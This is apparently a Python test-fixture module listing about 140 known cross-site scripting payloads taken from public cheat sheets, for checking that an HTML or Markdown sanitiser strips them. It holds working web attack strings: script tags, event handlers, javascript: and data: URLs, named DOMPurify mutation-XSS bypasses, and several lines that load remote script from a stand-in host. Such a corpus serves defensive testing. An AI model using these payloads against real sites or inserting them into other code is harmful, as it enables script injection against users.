"""A corpus of known XSS vectors, taken from public cheat sheets.

Sources (each vector names the one it comes from, or the family it belongs to):

- OWASP: the XSS Filter Evasion Cheat Sheet (cheatsheetseries.owasp.org, after RSnake's list)
- PortSwigger: the Cross-site scripting cheat sheet (portswigger.net/web-security/cross-site-scripting/cheat-sheet)
- H5SC: the HTML5 Security Cheatsheet (html5sec.org, Mario Heiderich)
- mXSS: mutation-XSS write-ups on sanitisers (DOMPurify/bleach/html5lib advisories, Heiderich et al. "mXSS attacks")
- Markdown: the usual Markdown-renderer payloads (links, images, references, autolinks)

Every vector is a Python string written as the publisher would type it into a field. Some span several lines
(a reference definition needs its own line); fields that must be one line get them with the newlines turned
into spaces (`one_line`). A few carry control characters (a NUL, a vertical tab): they are part of the corpus
on purpose.

The payloads call alert(1) or similar and never reach anything outside the page; they are here to be found
absent from the output, never executed.
"""

from __future__ import annotations

from typing import NamedTuple


class Vector(NamedTuple):
    id: str  # short, unique, usable in a test id
    payload: str
    source: str


_RAW: list[tuple[str, str, str]] = [
    # ---- <script> in many spellings and encodings ------------------------------------------------------
    ("script-basic", "<script>alert(1)</script>", "OWASP"),
    ("script-mixed-case", "<ScRiPt>alert(1)</sCrIpT>", "OWASP"),
    ("script-src", '<script src="https://xss.example/xss.js"></script>', "OWASP"),
    ("script-src-noquote-slash", "<script/src=data:,alert(1)></script>", "PortSwigger"),
    ("script-xss-attr", '<SCRIPT/XSS SRC="http://xss.example/xss.js"></SCRIPT>', "OWASP"),
    ("script-nested", "<scr<script>ipt>alert(1)</scr</script>ipt>", "OWASP"),
    ("script-extra-lt", '<<SCRIPT>alert("XSS");//\\<</SCRIPT>', "OWASP"),
    ("script-unclosed", "<SCRIPT SRC=http://xss.example/xss.js?< B >", "OWASP"),
    ("script-half-open", "<script>alert(1)//", "OWASP"),
    ("script-space-before-name", "< script>alert(1)</script>", "OWASP"),
    ("script-newline-in-tag", "<script\n>alert(1)</script\n>", "H5SC"),
    ("script-null-in-name", "<scr\x00ipt>alert(1)</scr\x00ipt>", "OWASP (null byte)"),
    ("script-entity-encoded", "&lt;script&gt;alert(1)&lt;/script&gt;", "OWASP (entity-encoded brackets)"),
    ("script-fullwidth-brackets", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "unicode (fullwidth < >)"),
    ("script-in-string", '"</script><script>alert(1)</script>', "PortSwigger (</script> inside a JS string)"),
    ("script-close-in-comment", "<!--</script><script>alert(1)//-->", "H5SC"),
    ("script-type-module", '<script type="module">import("https://xss.example/x.js")</script>', "PortSwigger"),
    # ---- event handlers ------------------------------------------------------------------------------
    ("img-onerror", "<img src=x onerror=alert(1)>", "OWASP"),
    ("img-onerror-quoted", '<img src="x" onerror="alert(1)">', "OWASP"),
    ("img-onerror-slash", "<img/src=x/onerror=alert(1)>", "PortSwigger"),
    ("img-onerror-backtick", "<img src=`x`onerror=alert(1)>", "H5SC"),
    ("img-onerror-entity", "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>", "OWASP (decimal entities)"),
    ("img-onerror-tab", "<img src=x\tonerror\t=\talert(1)>", "OWASP (embedded tab)"),
    ("img-alt-breakout", '<img alt="x" src=x:alert(alt) onerror=eval(src)>', "PortSwigger"),
    ("img-dynsrc-lowsrc", '<img dynsrc="javascript:alert(1)" lowsrc="javascript:alert(1)">', "OWASP"),
    ("svg-onload", "<svg onload=alert(1)>", "PortSwigger"),
    ("svg-slash-onload", "<svg/onload=alert(1)>", "PortSwigger"),
    ("svg-animate", "<svg><animate onbegin=alert(1) attributeName=x dur=1s></animate></svg>", "PortSwigger"),
    (
        "svg-set-href",
        '<svg><a><set attributeName="href" to="javascript:alert(1)"/><text y="20">x</text></a></svg>',
        "PortSwigger",
    ),
    (
        "svg-use-data",
        '<svg><use href="data:image/svg+xml,&lt;svg id=x xmlns=http://www.w3.org/2000/svg&gt;&lt;image href=1 onerror=alert(1) /&gt;&lt;/svg&gt;#x"/></svg>',
        "PortSwigger",
    ),
    ("svg-script-xlink", '<svg><script xlink:href="data:,alert(1)"></script></svg>', "H5SC"),
    ("body-onload", "<body onload=alert(1)>", "OWASP"),
    ("body-onpageshow", "<body onpageshow=alert(1)>", "PortSwigger"),
    ("iframe-src-js", '<iframe src="javascript:alert(1)"></iframe>', "OWASP"),
    ("iframe-srcdoc", '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>', "H5SC"),
    ("details-ontoggle", "<details open ontoggle=alert(1)>", "PortSwigger"),
    ("video-onerror", "<video><source onerror=alert(1)></video>", "H5SC"),
    ("video-poster", '<video poster="javascript:alert(1)"></video>', "H5SC"),
    ("audio-onerror", "<audio src=x onerror=alert(1)>", "PortSwigger"),
    ("marquee-onstart", "<marquee onstart=alert(1)>x</marquee>", "PortSwigger"),
    ("input-autofocus", "<input autofocus onfocus=alert(1)>", "PortSwigger"),
    ("select-autofocus", "<select autofocus onfocus=alert(1)></select>", "PortSwigger"),
    ("a-onmouseover", '<a href="https://ok.example/" onmouseover="alert(1)">x</a>', "OWASP"),
    ("div-onpointerover", "<div onpointerover=alert(1) style=position:fixed;inset:0>x</div>", "PortSwigger"),
    ("h2-id-onclick", '<h2 id="abstract" onclick="alert(1)">x</h2>', "PortSwigger (id clobbering + handler)"),
    ("td-onclick", "<table><tr><td onclick=alert(1)>x</td></tr></table>", "OWASP"),
    (
        "sup-onanimationstart",
        "<style>@keyframes x{}</style><sup style=animation-name:x onanimationstart=alert(1)>x</sup>",
        "PortSwigger",
    ),
    # ---- javascript: and other schemes in URL attributes ----------------------------------------------
    ("a-href-js", '<a href="javascript:alert(1)">x</a>', "OWASP"),
    ("a-href-js-case", '<a href="JaVaScRiPt:alert(1)">x</a>', "OWASP"),
    (
        "a-href-js-entity",
        '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
        "OWASP (decimal entities)",
    ),
    (
        "a-href-js-hex-entity",
        '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
        "OWASP (hex entities)",
    ),
    (
        "a-href-js-padded-entity",
        '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>',
        "OWASP (padded entities without ;)",
    ),
    ("a-href-js-tab", '<a href="jav\tascript:alert(1)">x</a>', "OWASP (embedded tab)"),
    ("a-href-js-tab-entity", '<a href="jav&#x09;ascript:alert(1)">x</a>', "OWASP (encoded tab)"),
    ("a-href-js-newline-entity", '<a href="jav&#x0A;ascript:alert(1)">x</a>', "OWASP (encoded newline)"),
    ("a-href-js-leading-space", '<a href=" &#14;  javascript:alert(1)">x</a>', "OWASP (spaces and meta chars before)"),
    ("a-href-js-colon-entity", '<a href="javascript&colon;alert(1)">x</a>', "H5SC (&colon;)"),
    ("a-href-vbscript", '<a href="vbscript:msgbox(1)">x</a>', "OWASP"),
    ("a-href-data-html", '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>', "OWASP"),
    ("img-src-js", '<img src="javascript:alert(1)">', "OWASP"),
    ("img-srcset-js", '<img srcset="javascript:alert(1) 1x, x.png 2x">', "PortSwigger"),
    ("img-src-data-svg", '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">', "H5SC"),
    ("form-action", '<form action="javascript:alert(1)"><input type=submit></form>', "PortSwigger"),
    ("button-formaction", '<form><button formaction="javascript:alert(1)">x</button></form>', "H5SC"),
    ("math-xlink", '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>', "H5SC"),
    ("math-href", '<math href="javascript:alert(1)">x</math>', "H5SC"),
    ("object-data", '<object data="javascript:alert(1)"></object>', "OWASP"),
    ("object-data-html", '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>', "H5SC"),
    ("embed-src", '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">', "OWASP"),
    ("q-cite-js", '<q cite="javascript:alert(1)">x</q>', "H5SC (cite is a URL)"),
    ("blockquote-cite-data", '<blockquote cite="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">x</blockquote>', "H5SC"),
    ("table-background", '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>', "OWASP"),
    # ---- style, base, meta, link ---------------------------------------------------------------------
    ("style-expression", '<div style="width: expression(alert(1));">x</div>', "OWASP"),
    ("style-url-js", '<div style="background-image: url(javascript:alert(1))">x</div>', "OWASP"),
    ("style-tag-import", "<style>@import 'https://xss.example/x.css';</style>", "OWASP"),
    ("style-tag-binding", "<style>*{-moz-binding:url(https://xss.example/x.xml#x)}</style>", "OWASP"),
    (
        "td-style-escape",
        '<table><tr><td style="text-align: left;background:url(javascript:alert(1))">x</td></tr></table>',
        "allow-list probe",
    ),
    ("td-style-comment", '<table><tr><td style="text-align: left;/**/">x</td></tr></table>', "allow-list probe"),
    ("base-href", '<base href="javascript:alert(1)//">', "OWASP"),
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', "OWASP"),
    (
        "meta-refresh-data",
        '<meta http-equiv="refresh" content="0;url=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg">',
        "OWASP",
    ),
    ("meta-csp", '<meta http-equiv="Content-Security-Policy" content="script-src *">', "PortSwigger"),
    ("link-stylesheet", '<link rel="stylesheet" href="javascript:alert(1)">', "OWASP"),
    ("link-import", '<link rel="import" href="https://xss.example/x.html">', "H5SC"),
    # ---- breakouts ------------------------------------------------------------------------------------
    ("textarea-breakout", "</textarea><script>alert(1)</script>", "OWASP"),
    ("title-breakout", "</title><script>alert(1)</script>", "OWASP"),
    ("noscript-breakout", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', "mXSS"),
    ("template-breakout", "<template><script>alert(1)</script></template>", "H5SC"),
    ("style-breakout", "<style></style><img src=x onerror=alert(1)>", "mXSS"),
    ("attr-breakout-double", '" onmouseover="alert(1)', "OWASP (attribute breakout)"),
    ("attr-breakout-single", "' onmouseover='alert(1)", "OWASP (attribute breakout)"),
    ("attr-breakout-tag", '"><script>alert(1)</script>', "OWASP (attribute breakout)"),
    ("attr-breakout-unquoted", "x onfocus=alert(1) autofocus", "OWASP (unquoted attribute breakout)"),
    ("xmp-plaintext", '<xmp><p title="</xmp><img src=x onerror=alert(1)>">', "H5SC"),
    ("plaintext", "<plaintext><script>alert(1)</script>", "H5SC"),
    ("cdata", "<![CDATA[<]]><script>alert(1)</script>", "H5SC"),
    ("conditional-comment", "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->", "OWASP"),
    ("comment-trick", '<!--<img src="--><img src=x onerror=alert(1)//">', "PortSwigger (comment trick)"),
    ("comment-bang", "<!--!><img src=x onerror=alert(1)>-->", "H5SC"),
    ("pi-trick", '<?xml-stylesheet href="javascript:alert(1)"?><img src=x onerror=alert(1)>', "H5SC"),
    # ---- mutation XSS -----------------------------------------------------------------------------------
    (
        "mxss-math-style",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
        "mXSS (DOMPurify 2.0.0 bypass)",
    ),
    ("mxss-svg-style", '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">', "mXSS"),
    (
        "mxss-form-math",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "mXSS (DOMPurify 2.2.2 bypass)",
    ),
    ("mxss-noscript-title", "<noscript><style></noscript><img src=x onerror=alert(1)></style></noscript>", "mXSS"),
    ("mxss-backtick-attr", '<img src="test.jpg" alt="``onload=alert(1)">', "mXSS (IE backtick)"),
    ("mxss-listing", "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>", "mXSS (innerHTML decode)"),
    (
        "mxss-select-template",
        '<select><template><style><!--</style><a title="--></style><img src=x onerror=alert(1)>"></a></template></select>',
        "mXSS",
    ),
    # ---- Markdown ---------------------------------------------------------------------------------------
    ("md-link-js", "[x](javascript:alert(1))", "Markdown"),
    ("md-link-js-case", "[x](JaVaScRiPt:alert(1))", "Markdown"),
    ("md-link-js-entity", "[x](&#106;avascript:alert(1))", "Markdown (entity in the URL)"),
    ("md-link-js-space", "[x]( javascript:alert(1))", "Markdown"),
    ("md-link-js-angle", "[x](<javascript:alert(1)>)", "Markdown (angle-bracketed destination)"),
    ("md-link-js-title", '[x](javascript:alert(1) "t")', "Markdown"),
    ("md-link-vbscript", "[x](vbscript:msgbox(1))", "Markdown"),
    ("md-link-data", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", "Markdown"),
    ("md-link-title-breakout", '[x](https://ok.example/ "a\\" onmouseover=\\"alert(1)")', "Markdown (title attribute breakout)"),
    ("md-image-js", "![x](javascript:alert(1))", "Markdown"),
    ("md-image-onerror", '![x" onerror="alert(1)](x.png)', "Markdown (alt breakout)"),
    ("md-image-data", "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)", "Markdown"),
    ("md-reference-js", "[x][evil]\n\n[evil]: javascript:alert(1)", "Markdown (reference link)"),
    ("md-reference-js-case", '[x][evil]\n\n[evil]: JAVASCRIPT:alert(1) "t"', "Markdown (reference link)"),
    ("md-reference-image", "![x][evil]\n\n[evil]: javascript:alert(1)", "Markdown (reference image)"),
    ("md-autolink-js", "<javascript:alert(1)>", "Markdown (autolink)"),
    ("md-autolink-mail-js", "<javascript:alert(1)@x.example>", "Markdown (automail)"),
    ("md-autolink-http-breakout", '<http://ok.example/"onmouseover="alert(1)>', "Markdown (autolink)"),
    ("md-footnote-breakout", "x[^1]\n\n[^1]: <img src=x onerror=alert(1)>", "Markdown (footnote)"),
    ("md-heading-html", "## <img src=x onerror=alert(1)> heading", "Markdown (heading)"),
    ("md-code-span", "`<script>alert(1)</script>`", "Markdown (code span: text)"),
    ("md-table-style", '| a |\n|:-:|\n| <span style="background:url(javascript:alert(1))">x</span> |', "Markdown (table)"),
    # ---- unicode and control characters ---------------------------------------------------------------
    ("unicode-js-zwsp", '<a href="java\u200bscript:alert(1)">x</a>', "unicode (zero-width space)"),
    ("unicode-rtl", "\u202e<script>alert(1)</script>", "unicode (right-to-left override)"),
    ("unicode-vtab", '<a href="\x0bjavascript:alert(1)">x</a>', "OWASP (control character before the scheme)"),
    ("null-in-href", '<a href="java\x00script:alert(1)">x</a>', "OWASP (null byte)"),
    ("utf7", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "OWASP (UTF-7)"),
]

VECTORS: list[Vector] = [Vector(*row) for row in _RAW]

assert len({v.id for v in VECTORS}) == len(VECTORS), "vector ids must be unique"
assert len(VECTORS) >= 60


def one_line(payload: str) -> str:
    """The vector for a one-line field (a title, a name): its newlines become spaces."""
    return " ".join(payload.split("\n"))
